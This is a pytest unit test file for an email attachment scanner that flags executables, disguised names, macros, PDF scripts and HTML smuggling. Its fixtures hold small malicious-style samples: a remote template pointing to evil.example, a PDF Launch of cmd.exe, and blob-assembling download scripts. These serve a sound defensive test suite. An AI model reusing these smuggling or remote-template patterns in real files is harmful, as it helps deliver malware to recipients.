"""What is seen in an attachment."""

import base64
import struct
import tarfile
import zipfile
import zlib

import pytest

from postroom.attachments.facts import Facts, needs_look
from postroom.mime.detect import detected_type
from postroom.reasons import Reason
from tests.unit.attachments.made import (
    PROGRAM,
    compound,
    encrypted,
    gzipped,
    look,
    office,
    pdf,
    reasons,
    tarred,
    winmail,
    zipped,
)

PAGE = b"<!DOCTYPE html><html><body>%s</body></html>"
BLOB = base64.b64encode(bytes(range(256)) * 100)


# Names


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("setup.exe", Reason.EXECUTABLE),
        ("SETUP.EXE", Reason.EXECUTABLE),
        ("setup.exe.", Reason.EXECUTABLE),
        ("setup.exe ", Reason.EXECUTABLE),
        ("setup.exe::$DATA", Reason.EXECUTABLE),
        ("setup.\u200bexe", Reason.EXECUTABLE),
        ("ｓｅｔｕｐ．ｅｘｅ", Reason.EXECUTABLE),
        ("run.js", Reason.EXECUTABLE),
        ("invoice.pdf.exe", Reason.DOUBLE_EXTENSION),
        ("invoice.pdf .scr", Reason.DOUBLE_EXTENSION),
        ("photo.jpg.html", Reason.DOUBLE_EXTENSION),
        ("report.docx.lnk", Reason.DOUBLE_EXTENSION),
        ("invoice\u202efdp.exe", Reason.DISGUISED_NAME),
        ("invoice.pdf" + " " * 40 + ".exe", Reason.DISGUISED_NAME),
        ("here.url", Reason.SHORTCUT),
        ("docs.library-ms", Reason.SHORTCUT),
        ("disc.iso", Reason.DISK_IMAGE),
        ("old.rar", Reason.ARCHIVE_UNREADABLE),
        ("big.7z.001", Reason.ARCHIVE_UNREADABLE),
    ],
)
def test_a_name_alone_tells(name: str, reason: Reason) -> None:
    assert reason in reasons(b"x", name)


@pytest.mark.parametrize(
    "name",
    [
        "report.pdf",
        "v1.2.pdf",
        "all.tar.gz",
        "report.docx.pdf",
        "page.html",
        "a.b.c.txt",
        "notes",
        "",
        "exe",
        "J. P. Exeter.txt",
    ],
)
def test_an_ordinary_name_tells_nothing(name: str) -> None:
    assert reasons(b"x", name) <= {Reason.ARCHIVE_UNREADABLE}


def test_a_name_that_the_policy_allows_is_judged_by_its_bytes_only() -> None:
    assert reasons(b"let x = 1", "a.js", allows_name=lambda name: name.endswith(".js")) == set()
    assert reasons(PROGRAM, "a.js", allows_name=lambda name: name.endswith(".js")) == {Reason.EXECUTABLE}


# First bytes


@pytest.mark.parametrize("head", [PROGRAM, b"\x7fELF\x02", b"\xcf\xfa\xed\xfe", b"\xca\xfe\xba\xbe", b"#!/bin/sh\n"])
def test_a_program_is_known_under_any_name(head: bytes) -> None:
    assert Reason.EXECUTABLE in reasons(head, "letter")
    assert Reason.EXECUTABLE_IN_ARCHIVE in reasons(zipped(("letter", head)), "letters.zip")


def test_a_shortcut_is_known_by_its_bytes() -> None:
    assert Reason.SHORTCUT in reasons(b"L\0\0\0\x01\x14\x02\0" + bytes(60), "report")


@pytest.mark.parametrize(
    ("name", "data"), [("photo.jpg", b"<html>"), ("scan.pdf", zipped(("a", b"a"))), ("notes.txt", b"{\\rtf1}")]
)
def test_bytes_of_another_type_than_the_name_says_are_a_mismatch(name: str, data: bytes) -> None:
    assert Reason.TYPE_MISMATCH in reasons(data, name)


def test_a_picture_of_another_format_is_no_mismatch() -> None:
    assert reasons(b"\x89PNG\r\n\x1a\n", "photo.jpg") == set()
    assert reasons(b"\xff\xd8\xff", "photo", content_type="image/png") == set()


@pytest.mark.parametrize("at", [0, 0x8001])
def test_a_disk_image_is_known_where_first_bytes_do_not_reach(at: int) -> None:
    image = (bytes(0x8001) + b"CD001" + bytes(2_048)) if at else b"conectix" + bytes(504)
    assert reasons(image, "letter") == {Reason.DISK_IMAGE}


# Archives


@pytest.mark.parametrize("method", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_program_in_a_zip_is_seen_however_it_is_packed(method: int) -> None:
    (sign,) = look(zipped(("readme.txt", b"hello " * 9_999), ("tool", PROGRAM * 999), method=method), "tool.zip")
    assert (sign.reason, sign.detail) == (Reason.EXECUTABLE_IN_ARCHIVE, "tool")


@pytest.mark.parametrize("form", [tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT, tarfile.PAX_FORMAT])
def test_a_program_in_a_tar_is_seen_in_every_form_of_it(form: int) -> None:
    long_name = "d" * 90 + "/" + "e" * 80 + ".exe"
    for data in (tarred(("a.txt", b"x" * 600), (long_name, b"x"), form=form),):
        assert reasons(data, "all.tar") == {Reason.EXECUTABLE_IN_ARCHIVE}
        assert reasons(gzipped(data), "all.tar.gz") == {Reason.EXECUTABLE_IN_ARCHIVE}


def test_a_tar_is_known_without_its_magic() -> None:
    """The oldest form has none: its checksum tells."""
    old = bytearray(tarred(("a.exe", b"x"), form=tarfile.USTAR_FORMAT))
    old[257:265] = bytes(8)
    old[148:156] = b"%06o\0 " % sum(old[:148] + b" " * 8 + old[156:512])
    assert reasons(bytes(old), "letter") == {Reason.EXECUTABLE_IN_ARCHIVE}


def test_what_is_packed_alone_is_looked_into() -> None:
    assert reasons(gzipped(PROGRAM), "letter.gz") == {Reason.EXECUTABLE_IN_ARCHIVE}
    assert reasons(gzipped(b"an honest log\n" * 999), "today.log.gz") == set()
    assert reasons(gzipped(b"PK") + gzipped(zipped(("a.exe", b""))[2:]), "two.gz") == {Reason.EXECUTABLE_IN_ARCHIVE}


def test_archives_in_archives_are_looked_into() -> None:
    inner = zipped(("a/invoice.pdf.js", b"x"))
    (first, second) = look(tarred(("in.zip", inner)), "all.tar")
    assert {first.reason, second.reason} == {Reason.EXECUTABLE_IN_ARCHIVE, Reason.DOUBLE_EXTENSION}
    assert first.detail == "in.zip/a/invoice.pdf.js"


def test_an_honest_archive_has_no_sign() -> None:
    photos = zipped(("1.jpg", b"\xff\xd8\xff" + bytes(9_999)), ("folder/", b""), ("folder/notes.txt", b"hello"))
    assert reasons(photos, "photos.zip") == set()
    assert reasons(tarred(("photos.zip", photos), ("b.pdf", pdf(b"<<>>"))), "all.tar") == set()


def test_an_archive_under_a_password_still_tells_its_names() -> None:
    found = reasons(encrypted(zipped(("setup.exe", PROGRAM), ("a.txt", b"a"))), "secret.zip")
    assert found == {Reason.ENCRYPTED_ARCHIVE, Reason.EXECUTABLE_IN_ARCHIVE}


@pytest.mark.parametrize(
    "head",
    [
        b"Rar!\x1a\x07\x01\x00" + b"\0\0\0\0\x05\x04" + bytes(40),
        b"Rar!\x1a\x07\x00" + b"\0\0\x73\x80\x00\x0d\x00" + bytes(40),
        b"7z\xbc\xaf'\x1c\0\x04" + bytes(4) + struct.pack("<QQ", 0, 8) + bytes(4) + b"\x17\x06\x24\x06\xf1\x07\x01\x12",
    ],
)
def test_a_password_of_an_archive_that_we_cannot_read_is_seen(head: bytes) -> None:
    assert reasons(head, "letter") == {Reason.ENCRYPTED_ARCHIVE, Reason.ARCHIVE_UNREADABLE}


@pytest.mark.parametrize("cut", [1, 10, 30, 60, 90])
def test_a_broken_archive_is_unreadable_and_no_error(cut: int) -> None:
    whole = zipped(("a.txt", b"hello " * 40))
    assert reasons(whole[:-cut], "a.zip") == {Reason.ARCHIVE_UNREADABLE}


def test_an_archive_that_says_two_things_of_itself_is_unreadable() -> None:
    """What one program unpacks as a.txt another unpacks as a.exe."""
    lying = zipped(("a.txt", b"hello")).replace(b"a.txt", b"a.exe", 1)
    assert reasons(lying, "a.zip") == {Reason.ARCHIVE_UNREADABLE}


def test_a_file_that_is_larger_than_its_archive_says_is_not_trusted() -> None:
    data = bytearray(zipped(("a.txt", b"hello " * 999)))
    at = data.find(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    assert Reason.ARCHIVE_UNREADABLE in reasons(bytes(data), "a.zip")


def test_files_that_follow_an_unreadable_one_are_still_seen() -> None:
    data = zipped(("a.rar", b"Rar!\x1a\x07\x01\x00"), ("b.exe", b"x"))
    assert reasons(data, "all.zip") == {Reason.ARCHIVE_UNREADABLE, Reason.EXECUTABLE_IN_ARCHIVE}


def test_a_mail_with_files_that_is_no_attached_message_is_not_looked_into_and_says_so() -> None:
    plain = b"From: a@example.com\r\n\r\nhello"
    files = b"From: a@example.com\r\nContent-Disposition: attachment;\r\n FileName*0=a.exe\r\n\r\nTVo="
    for mail, found in ((plain, set()), (files, {Reason.ARCHIVE_UNREADABLE})):
        assert reasons(zipped(("a.eml", mail)), "a.zip") == found
        assert reasons(mail, "a.eml") == found
        assert reasons(mail, "a.eml", content_type="message/rfc822") == set()


def test_a_zip_behind_other_bytes_is_still_a_zip() -> None:
    """Unpackers look for its end, and so do we."""
    assert Reason.EXECUTABLE_IN_ARCHIVE in reasons(b"x" * 5_000 + zipped(("a.exe", PROGRAM)), "letter")


# Documents


@pytest.mark.parametrize(
    ("parts", "reason"),
    [
        ((("word/vbaProject.bin", b"x"),), Reason.MACROS),
        ((("xl/macrosheets/sheet1.xml", b"<x/>"),), Reason.MACROS),
        ((("word/embeddings/oleObject1.bin", compound("\x01Ole10Native")),), Reason.EMBEDDED_OBJECT),
        ((("word/embeddings/a.bin", PROGRAM),), Reason.EXECUTABLE_IN_ARCHIVE),
        (
            (
                (
                    "word/_rels/settings.xml.rels",
                    b'<Relationships><Relationship Id="r1" Type="http://x.example/relationships/attachedTemplate" '
                    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
                ),
            ),
            Reason.REMOTE_TEMPLATE,
        ),
    ],
)
def test_what_an_office_document_does_is_seen(parts: tuple[tuple[str, bytes], ...], reason: Reason) -> None:
    assert reasons(office(*parts), "letter.docx") == {reason}
    assert reason in reasons(zipped(("letter.docx", office(*parts))), "letters.zip")


def test_macros_under_another_name_are_told_by_the_content_types() -> None:
    types = b'<Types><Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    assert reasons(office(("word/a.xml", b"x"), types=types), "letter.docx") == {Reason.MACROS}


def test_an_ordinary_office_document_has_no_sign() -> None:
    local = (
        b'<Relationships><Relationship Type="http://x.example/attachedTemplate" Target="file:///C:/Normal.dotm" '
        b'TargetMode="External"/><Relationship Type="http://x.example/hyperlink" Target="https://a.example/"/></Relationships>'
    )
    parts = (("word/_rels/settings.xml.rels", local), ("word/media/image1.png", b"\x89PNG\r\n\x1a\n"))
    assert reasons(office(*parts, ("word/embeddings/sheet.xlsx", office())), "letter.docx") == set()
    odt = zipped(("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<x/>"), method=0)
    assert reasons(odt, "letter.odt") == set()


def test_macros_of_an_opendocument_are_seen() -> None:
    files = (("mimetype", b"application/vnd.oasis.opendocument.text"), ("Basic/Standard/Module1.xml", b"<x/>"))
    assert reasons(zipped(*files, method=0), "letter.odt") == {Reason.MACROS}


WORD = b"\xec\xa5\xc1\x00" + bytes(6) + b"\x00\x01" + bytes(20)
BOF = b"\x09\x08\x10\x00\x00\x06\x05\x00" + bytes(12)


@pytest.mark.parametrize(
    ("data", "found"),
    [
        (compound("WordDocument"), set()),
        (compound("Macros", "VBA"), {Reason.MACROS}),
        (compound("Workbook", "_VBA_PROJECT_CUR"), {Reason.MACROS}),
        (compound("EncryptionInfo", "EncryptedPackage"), {Reason.ENCRYPTED_DOCUMENT}),
        (compound("__attach_version1.0_#00000000"), {Reason.ARCHIVE_UNREADABLE}),
        (compound("WordDocument", stream=WORD), {Reason.ENCRYPTED_DOCUMENT}),
        (compound("Workbook", stream=BOF + struct.pack("<HH", 0x2F, 6) + bytes(6)), {Reason.ENCRYPTED_DOCUMENT}),
        (
            compound("Workbook", stream=BOF + struct.pack("<HHIBB", 0x85, 8, 0, 0, 1) + bytes(2) + b"\x0a\0\0\0"),
            {Reason.MACROS},
        ),
        (
            compound("Workbook", stream=BOF + struct.pack("<HHIBB", 0x85, 8, 0, 0, 0) + bytes(2) + b"\x0a\0\0\0"),
            set(),
        ),
        (
            compound(stream=bytes.fromhex("1f00ff0314000000020000040c000000") + struct.pack("<III", 1, 1, 2)),
            {Reason.MACROS},
        ),
    ],
)
def test_what_an_older_office_document_does_is_seen(data: bytes, found: set[Reason]) -> None:
    assert reasons(data, "letter.doc") == found


def test_an_installer_is_a_program() -> None:
    data = bytearray(compound("a"))
    data[512 + 80 : 512 + 96] = bytes.fromhex("84100c0000000000c000000000000046")
    assert reasons(bytes(data), "letter") == {Reason.EXECUTABLE}


@pytest.mark.parametrize(
    ("data", "found"),
    [
        (pdf(b"<</Type/Catalog>>", b"<</EmbeddedFile true>>"), set()),
        (pdf(b"<</S/JavaScript/JS(app.alert())>>"), {Reason.PDF_SCRIPT}),
        (pdf(b"<</S/J#61va#53cript/JS(app.alert())>>"), {Reason.PDF_SCRIPT}),
        (pdf(b"<</S /Launch /F (cmd.exe)>>"), {Reason.PDF_LAUNCH}),
        (pdf(b"<</Encrypt 5 0 R>>"), {Reason.ENCRYPTED_PDF}),
        (pdf(b"<</JavaScripts 1/LaunchTime 2/EncryptMetadata true>>"), set()),
        (
            pdf(b"<</Type/ObjStm/N 1>>stream\r\n" + zlib.compress(b"<</S/Launch>>") + b"\nendstream"),
            {Reason.PDF_LAUNCH},
        ),
        (pdf(b"<</Type/ObjStm/N 1>>stream\r\nbroken\nendstream"), set()),
    ],
)
def test_what_a_pdf_does_is_seen(data: bytes, found: set[Reason]) -> None:
    assert reasons(data, "letter.pdf") == found


def test_a_mark_is_seen_wherever_the_pieces_of_a_large_file_part_it() -> None:
    for before in range((1 << 20) - 20, (1 << 20) + 4, 3):
        assert reasons(b"%PDF-1.7".ljust(before) + b"/JavaScript ", "a.pdf") == {Reason.PDF_SCRIPT}


def test_an_object_in_rtf_and_a_file_in_a_notebook_are_seen() -> None:
    assert reasons(b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", "letter.doc") == {Reason.EMBEDDED_OBJECT}
    one = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(99)
    assert reasons(one + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac"), "n.one") == {Reason.EMBEDDED_OBJECT}
    assert reasons(one, "n.one") == set()


# Pages


@pytest.mark.parametrize(
    "script",
    [
        b"<script>var b=new Blob([atob('QQ==')]);a.href=URL.createObjectURL(b);a.download='x.iso'</script>",
        b"<script>eval(unescape('" + BLOB + b"'))</script>",
        b"<svg onload=\"navigator.msSaveOrOpenBlob(new Blob([Uint8Array.from(x)]),'a.zip')\">",
        b'<a href="data:application/zip;base64,' + BLOB + b'">open</a>',
        b"<ScRiPt>x=String.fromCharCode(1);document.body.setAttribute('download','x')</sCrIpT>",
    ],
)
def test_a_page_that_puts_a_file_together_is_seen(script: bytes) -> None:
    assert reasons(PAGE % script, "letter.html") == {Reason.HTML_SMUGGLING}
    assert reasons((PAGE % script).decode().encode("utf-16"), "letter.html") == {Reason.HTML_SMUGGLING}
    assert reasons(b"<p>" + script, "letter", content_type="text/html") == {Reason.HTML_SMUGGLING}


@pytest.mark.parametrize("before", [0, (1 << 20) - 9_000, (1 << 20) - 200, (1 << 20) + 1])
def test_a_large_piece_of_data_is_seen_across_the_pieces_of_a_page(before: int) -> None:
    page = b"<html>".ljust(before) + b"<script>atob('" + BLOB + b"')</script>"
    assert reasons(page, "letter.html") == {Reason.HTML_SMUGGLING}


@pytest.mark.parametrize(
    "inner",
    [
        b"<p>Hello</p>",
        b"<script>document.title = 'atob'</script>",
        b'<img src="data:image/png;base64,' + BLOB * 60 + b'"><script>atob(x)</script>',
        b'<a href="/report.pdf">a report to download</a>',
    ],
)
def test_an_ordinary_page_has_no_sign(inner: bytes) -> None:
    assert reasons(PAGE % inner, "letter.html") == set()


@pytest.mark.parametrize("inner", [b"<script>1</script>", b'<a onclick="x()"/>', b'<a href="javascript:x()"/>'])
def test_a_script_in_a_picture_is_seen(inner: bytes) -> None:
    assert reasons(b"<svg>" + inner + b"</svg>", "logo.svg") == {Reason.SCRIPT_IN_SVG}
    assert reasons(b"<?xml version='1.0'?><svg>" + inner + b"</svg>", "logo.svg") == {Reason.SCRIPT_IN_SVG}


def test_a_picture_without_a_script_has_no_sign() -> None:
    assert reasons(b"<svg><path d='M0 0'/></svg>", "logo.svg") == set()


# winmail.dat


def test_the_files_in_a_winmail_dat_are_looked_into() -> None:
    assert reasons(winmail("setup.exe", b"x"), "winmail.dat") == {Reason.EXECUTABLE_IN_ARCHIVE}
    assert reasons(winmail("a.zip", zipped(("b.exe", b""))), "winmail.dat") == {Reason.EXECUTABLE_IN_ARCHIVE}
    assert reasons(winmail("a.docm", office(("word/vbaProject.bin", b""))), "winmail.dat") == {Reason.MACROS}
    assert reasons(winmail("notes.txt", b"hello"), "winmail.dat") == set()


# What needs no look


@pytest.mark.parametrize(
    ("name", "content_type", "head", "needed"),
    [
        ("photo.jpg", "image/jpeg", b"\xff\xd8\xff", False),
        ("logo", "image/png", b"\x89PNG\r\n\x1a\n", False),
        ("notes.txt", "text/plain", b"hello", False),
        ("", "message/rfc822", b"From: a@example.com", False),
        ("photo.zip", "image/jpeg", b"\xff\xd8\xff", True),
        ("page.html", "text/plain", b"hello", True),
        ("notes.txt", "text/plain", b"<html>", True),
        ("a.bin", "application/octet-stream", b"hello", True),
        ("a.pdf", "application/pdf", b"%PDF-", True),
    ],
)
def test_only_what_needs_a_look_gets_one(name: str, content_type: str, head: bytes, needed: bool) -> None:
    facts = Facts(name=name, content_type=content_type, detected_type=detected_type(head))
    assert needs_look(facts) is needed
